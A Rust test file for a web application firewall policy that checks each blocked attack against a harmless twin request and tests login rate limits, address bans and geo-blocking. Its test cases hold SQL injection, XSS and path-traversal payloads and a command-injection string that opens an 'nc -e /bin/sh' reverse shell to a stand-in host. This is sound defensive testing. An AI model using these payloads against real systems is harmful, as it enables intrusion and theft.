//! The shipped policy with the real built-in rules: for each refusal its twin that passes.

use std::collections::BTreeMap;
use std::sync::{Arc, LazyLock};
use std::time::Duration;

use portcullis_config::armor;
use portcullis_rulesets::{RuleSet, Source};

use super::{NOON, Request, shown, state};
use crate::verdict::EventKind;
use crate::waf::WafRules;
use crate::{Decision, GeoState, IpSet, Materials, Policy};

static SHIPPED: LazyLock<Arc<Policy>> = LazyLock::new(|| {
    let (policy, warnings) = load(GeoState::Loaded);
    assert!(warnings.is_empty(), "{warnings:?}");
    policy
});

fn load(geo: GeoState) -> (Arc<Policy>, Vec<&'static str>) {
    let source = armor::builtin("license-api").unwrap();
    let (definition, warnings) =
        armor::parse(&source).unwrap_or_else(|problems| panic!("{}", shown(&problems)));
    assert!(warnings.is_empty(), "{}", shown(&warnings));
    let demand = crate::compile::demand(&definition);
    assert!(demand.iter().all(|(_, level)| *level == 1), "{demand:?}");
    let core = RuleSet::load("core", &Source::Builtin("core".into()), 1)
        .expect("the built-in rules compile")
        .set;
    let mut rulesets: BTreeMap<String, Arc<dyn WafRules>> = BTreeMap::new();
    rulesets.insert("core".into(), core);
    let mut lists = BTreeMap::new();
    lists
        .insert("known-bad".to_owned(), Arc::new(IpSet::new(["198.51.100.0/24".parse().unwrap()])));
    let materials = Materials { rulesets: &rulesets, lists: &lists, geo, asn: GeoState::Absent };
    let (policy, warnings) = Policy::compile(&definition, &materials)
        .unwrap_or_else(|problems| panic!("{}", shown(&problems)));
    (Arc::new(policy), warnings.iter().map(|warning| warning.code).collect())
}

/// Returns the status of a refusal with its kind and its rule, or none.
pub(super) fn refusal(request: &Request) -> Option<(u16, EventKind, u32)> {
    let found = request.through(&SHIPPED, &state(), NOON).0;
    let status = match found.decision {
        Decision::Allow => return None,
        Decision::Deny { status }
        | Decision::TooMany { status, .. }
        | Decision::Redirect { status, .. } => status,
    };
    Some((status, found.security_event.unwrap(), found.enforced.priority))
}

fn json(body: &str) -> Request {
    Request::post("/api/v1/license/acquire", body.as_bytes())
        .header("Content-Type", b"application/json")
        .token("acme", "alice")
}

fn form(body: &str) -> Request {
    Request::post("/api/v1/license/acquire", body.as_bytes())
        .header("Content-Type", b"application/x-www-form-urlencoded")
        .token("acme", "alice")
}

#[test]
fn attacks_are_refused_wherever_they_stand_and_their_twins_pass() {
    use EventKind::{GeoBlock, IpBlock, Lfi, Rce, Scanner, SqlInjection, Xss};
    let acquire = r#"{"license_key":"ACME-1234-5678","hardware_id":"hw-1","user_email":"o'brien@example.com","metadata":{"app_version":"1.2.3","os":"Linux"}}"#;
    let cases: Vec<(Request, Option<(u16, EventKind, u32)>)> = vec![
        (Request::get("/health"), None),
        (Request::get("/health").from("198.51.100.9"), Some((403, IpBlock, 100))),
        (Request::get("/health").from("198.51.101.9"), None),
        (Request::get("/health").region("RU"), Some((403, GeoBlock, 200))),
        (Request::get("/health").region("DE"), None),
        (Request::get("/health").region("IE"), None),
        (
            Request::get("/api/v1/licenses/1?q=1%27%20OR%20%271%27=%271"),
            Some((403, SqlInjection, 2000)),
        ),
        (
            Request::get("/api/v1/licenses/1?q=1%20UNION%20SELECT%20password%20FROM%20users"),
            Some((403, SqlInjection, 2000)),
        ),
        (Request::get("/api/v1/licenses/1?q=the%20union%20of%20two%20sets"), None),
        (Request::get("/api/v1/licenses/1?q=O%27Brien"), None),
        (Request::get("/").header("Referer", b"' OR 1=1 --"), Some((403, SqlInjection, 2000))),
        (Request::get("/").header("Referer", b"https://example.com/a?b=c"), None),
        (json(r#"{"license_key":"x' OR '1'='1"}"#), Some((403, SqlInjection, 2000))),
        (json(acquire), None),
        (form("license_key=x%27+UNION+SELECT+1,2,3--+"), Some((403, SqlInjection, 2000))),
        (form("license_key=ACME-1234&note=select+a+seat"), None),
        (Request::get("/?q=%3Cscript%3Ealert(1)%3C/script%3E"), Some((403, Xss, 2100))),
        (json(r#"{"note":"<img src=x onerror=alert(1)>"}"#), Some((403, Xss, 2100))),
        (json(r#"{"note":"a < b and c > d"}"#), None),
        (Request::get("/?file=../../../../etc/passwd"), Some((403, Lfi, 2200))),
        (Request::get("/?file=report.pdf"), None),
        (
            Request::get("/?cmd=%3Bcat%20/etc/hostname%7Cnc%20-e%20/bin/sh%20192.0.2.9%204444"),
            Some((403, Rce, 2300)),
        ),
        (Request::get("/?cmd=list"), None),
        (
            Request {
                headers: vec![("User-Agent".into(), b"sqlmap/1.7".to_vec())],
                ..Request::get("/")
            },
            Some((403, Scanner, 2400)),
        ),
        (
            Request {
                headers: vec![("User-Agent".into(), b"curl/8.5.0".to_vec())],
                ..Request::get("/")
            },
            None,
        ),
    ];
    for (request, expected) in cases {
        let found = refusal(&request);
        assert_eq!(
            found.map(|(status, _, _)| status),
            expected.map(|(status, _, _)| status),
            "{request:?} {found:?}"
        );
        if matches!(expected, Some((_, GeoBlock | IpBlock | SqlInjection, _))) {
            assert_eq!(found, expected, "{request:?}");
        }
    }
}

/// Sends so many requests at once and returns how many passed.
fn passed(count: usize, request: impl Fn(usize) -> Request) -> usize {
    let state = state();
    (0..count).filter(|n| request(*n).through(&SHIPPED, &state, NOON).0.decision.passes()).count()
}

#[test]
fn sign_in_and_registration_have_limits_of_their_own() {
    let post = |uri: &'static str| {
        move |_| Request::post(uri, b"user=a&password=b").token("acme", "alice")
    };
    assert_eq!(passed(10, post("/api/auth/login")), 5);
    assert_eq!(passed(10, post("/api/v1/auth/login")), 5);
    assert_eq!(passed(10, post("//api/v1/auth/%6cogin/")), 5);
    assert_eq!(passed(10, post("/api/v1/auth/register")), 3);
    assert_eq!(passed(10, post("/api/v1/auth/logout")), 10);
    assert_eq!(passed(10, |_| Request::get("/api/v1/auth/login")), 10);
    assert_eq!(
        passed(10, |n| Request::post("/api/auth/login", b"").from(&format!("192.0.2.{n}"))),
        10
    );
}

#[test]
fn sign_in_opens_again_after_its_window() {
    let (state, login) = (state(), Request::post("/api/auth/login", b""));
    for expected in [true, true, true, true, true, false] {
        assert_eq!(login.through(&SHIPPED, &state, NOON).0.decision.passes(), expected);
    }
    let later = NOON.plus(Duration::from_secs(900 + 60));
    assert!(login.through(&SHIPPED, &state, later).0.decision.passes());
}

#[test]
fn the_hundred_and_first_request_without_a_token_bans_its_address_for_ten_minutes() {
    let (state, request) = (state(), Request::get("/api/v1/licenses/1"));
    let run = |request: &Request, secs: u64| {
        request.through(&SHIPPED, &state, NOON.plus(Duration::from_secs(secs))).0
    };
    for n in 0..100 {
        assert_eq!(run(&request, 0).decision, Decision::Allow, "{n}");
    }
    let refused = run(&request, 0);
    assert_eq!(
        refused.decision,
        Decision::TooMany { status: 429, retry_after_secs: 600, ban: true }
    );
    assert_eq!((refused.enforced.priority, refused.security_event), (1300, Some(EventKind::Ban)));
    assert_eq!(
        run(&request, 300).decision,
        Decision::TooMany { status: 429, retry_after_secs: 300, ban: true }
    );
    assert_eq!(run(&request, 600).decision, Decision::Allow);
    assert_eq!(run(&request.clone().from("192.0.2.2"), 300).decision, Decision::Allow);
    assert_eq!(run(&request.token("acme", "alice"), 300).decision, Decision::Allow);
}

#[test]
fn an_office_of_four_hundred_behind_one_address_loses_nothing() {
    let acquire =
        |n: usize| json(r#"{"license_key":"ACME-1"}"#).token("acme", &format!("user-{n}"));
    assert_eq!(passed(400, acquire), 400);
    assert_eq!(passed(400, |_| json(r#"{"license_key":"ACME-1"}"#).token("acme", "shared")), 400);
    assert_eq!(passed(1201, |_| Request::get("/api/v1/licenses/1").token("acme", "one")), 1200);
    assert_eq!(passed(6001, |n| Request::get("/").token("acme", &format!("user-{n}"))), 6000);
}

#[test]
fn what_conforms_is_still_inspected_and_what_is_banned_is_not_fetched() {
    let state = state();
    let attack = Request::get("/?q=1%27%20OR%20%271%27=%271");
    assert_eq!(attack.through(&SHIPPED, &state, NOON).0.enforced.priority, 2000);
    for _ in 0..100 {
        Request::get("/").through(&SHIPPED, &state, NOON);
    }
    let (found, asked) = Request::post("/", b"x").through(&SHIPPED, &state, NOON);
    assert_eq!((found.enforced.priority, asked), (1300, vec!["identity"]));
}

#[test]
fn without_a_country_database_it_loads_with_one_warning() {
    let (policy, warnings) = load(GeoState::Absent);
    assert_eq!(warnings, ["rule-inactive"]);
    assert!(Request::get("/").region("RU").through(&policy, &state(), NOON).0.decision.passes());
}
